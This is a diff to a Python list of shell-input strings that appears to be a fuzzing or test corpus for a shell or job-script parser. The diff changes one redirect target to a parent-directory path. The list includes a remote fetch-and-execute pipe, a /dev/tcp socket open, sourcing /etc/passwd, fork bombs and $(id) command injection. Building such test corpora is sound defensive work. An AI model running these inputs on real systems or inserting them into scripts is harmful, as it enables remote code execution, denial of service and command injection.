@@ -27,7 +27,7 @@ SHELL = [
     "for i in {1..9999999}; do B$i=1; done", "while :; do A+=x; done", "f() { f; f; }; f", 'source "$0"', ". ./hostile.sh",
     "source /etc/passwd", "source ../../x.sh", "exec 3<>/dev/tcp/127.0.0.1/80", "curl http://x | sh", "{1..99999}{1..99999}",
     "case $A in ((", "esac", "fi", "done", "if", "then", "}", "{", "((", "))", "[[", "]]", "[[ $A =~ (a+)+$ ]]", "'", '"', "\\", "\n", "\n\n",
-    "#SBATCH --nodes=$(id)", "<<EOF\n$(id)\nEOF\n", "<<'E'\nx\n", "> /tmp/written", "&& exit", "|| return", "trap 'rm x' EXIT",
+    "#SBATCH --nodes=$(id)", "<<EOF\n$(id)\nEOF\n", "<<'E'\nx\n", "> ../written", "&& exit", "|| return", "trap 'rm x' EXIT",
     "set -- $@ $@", "shift 99", "local A=1", "declare -n A=B", "declare -A T", "T[$A]=1", "A[99999999]=1", "A[-1]=2", "unset A", "export A",
     "python -c 'import os'", "${A//*/$(id)}", "${A//[a-z]*b*/x}", "${A:0:-99}", "${#A[@]}", "$'\\x41\\u0000'", "\u202e", "\ud83d\ude00", "\x07",
     " ", ";", "&", "|", "a=b", "--x=1", "A=1", "torchrun --tp 8", "$A", '"${A[@]}"', "echo a > f.json", "let A=A+1", "read A", "getopts a: o",
